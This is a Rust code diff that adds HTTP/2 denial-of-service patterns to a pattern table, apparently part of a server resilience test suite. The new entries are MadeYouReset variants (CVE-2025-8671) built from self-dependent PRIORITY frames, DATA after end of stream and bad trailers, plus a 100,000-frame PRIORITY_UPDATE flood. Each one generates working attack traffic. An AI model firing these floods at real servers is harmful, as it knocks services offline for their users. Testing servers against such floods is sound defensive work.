@@ -27,7 +27,7 @@ fn spoilt(lab: &Lab, spoil: fn(u32) -> Vec<u8>) -> io::Result<String> {
     ends(lab, ids(5000).flat_map(|id| [post(id, "/echo"), spoil(id)].concat()).collect::<Vec<_>>())
 }
 
-pub(in super::super) static PATTERNS: [Pattern; 21] = [
+pub(in super::super) static PATTERNS: [Pattern; 25] = [
     flood("http2-floods/rapid-reset", "requests that are reset at once", "CVE-2023-44487", |lab| {
         ends(
             lab,
@@ -61,6 +61,24 @@ pub(in super::super) static PATTERNS: [Pattern; 21] = [
         "the same by a PRIORITY of four octets",
         "CVE-2025-8671",
         |lab| spoilt(lab, |id| frame(PRIORITY, 0, id, &[0; 4])),
+    ),
+    flood(
+        "http2-floods/made-you-reset-self",
+        "the same by a stream that depends on itself",
+        "CVE-2025-8671",
+        |lab| spoilt(lab, |id| frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[16]].concat())),
+    ),
+    flood(
+        "http2-floods/made-you-reset-ended",
+        "the same by content behind the end of the request",
+        "CVE-2025-8671",
+        |lab| spoilt(lab, |id| [frame(DATA, END_STREAM, id, b"x"), frame(DATA, 0, id, b"y")].concat()),
+    ),
+    flood(
+        "http2-floods/made-you-reset-trailers",
+        "the same by trailers that may not be",
+        "CVE-2025-8671",
+        |lab| spoilt(lab, |id| frame(HEADERS, END_STREAM | END_HEADERS, id, &field(b"content-length", b"0"))),
     ),
     flood("http2-floods/malformed", "requests that are none, each to be reset", "CVE-2025-8671", |lab| {
         let malformed = |id| frame(HEADERS, END_STREAM | END_HEADERS, id, &[0x82]);
@@ -106,6 +124,10 @@ pub(in super::super) static PATTERNS: [Pattern; 21] = [
     ),
     flood("http2-floods/priority", "100,000 PRIORITYs", "CVE-2019-9513", |lab| {
         ends(lab, ids(100_000).flat_map(|id| frame(PRIORITY, 0, id, &[0, 0, 0, 0, 16])).collect::<Vec<_>>())
+    }),
+    flood("http2-floods/priority-update", "100,000 PRIORITY_UPDATEs", "RFC 9218 7.1", |lab| {
+        let update = |id: u32| frame(PRIORITY_UPDATE, 0, 0, &[&id.to_be_bytes()[..], b"u=1"].concat());
+        ends(lab, ids(100_000).flat_map(update).collect::<Vec<_>>())
     }),
     flood(
         "http2-floods/empty-data",
